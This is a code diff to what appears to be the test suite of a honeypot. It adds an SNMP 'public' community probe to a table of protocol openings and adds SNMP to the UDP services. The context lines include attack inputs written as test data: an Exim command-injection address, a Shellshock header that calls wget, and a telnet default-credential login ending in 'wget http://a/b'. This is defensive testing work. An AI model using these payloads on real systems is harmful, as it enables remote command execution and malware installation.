@@ -147,6 +147,10 @@ OPENINGS: dict[str, tuple[bytes, ...]] = {
         b"RCPT TO:<${run{id}}@b>\r\n",
         b"DATA\r\n", b"Subject: () { :; };wget a/b\r\n\r\n", b"x\r\n.\r\n",
     ),
+    "snmp": (
+        b"\x30\x29\2\1\1\4", b"\6public\xa1\x1c\2\4\0\0\0\1\2\1\0\2\1\0\x30\x0e\x30\x0c",
+        b"\6\x08\x2b\6\1\2\1\1\1\0\5\0",
+    ),
     "socks": (b"\4", b"\1\0\x50\0\0\0\1a", b"\0a"),
     "ssh": tuple(ssh_client.opening(Table(load("ssh")(visit(host=HOST))).open())),
     "telnet": (b"\xff\xfd\x01", b"root\r\n", b"xc3511\r\n", b"sh\n", b"echo -e '\\x41", b"'\n", b"wget http://a/b\n"),
@@ -220,7 +224,7 @@ WORDS = [
 
 FRONT = "front"  # no room of its own: telnet and HTTP on one port
 NAMES = (*ROOMS, FRONT)
-_UDP = ("catchall", "dns", "memcached", "ntp", "sip", "tftp", "upnp")
+_UDP = ("catchall", "dns", "memcached", "ntp", "sip", "snmp", "tftp", "upnp")
 SERVED = [(name, "tcp") for name in NAMES] + [(name, "udp") for name in _UDP]
 names = pytest.mark.parametrize("name", NAMES)
 bounded = settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.too_slow])
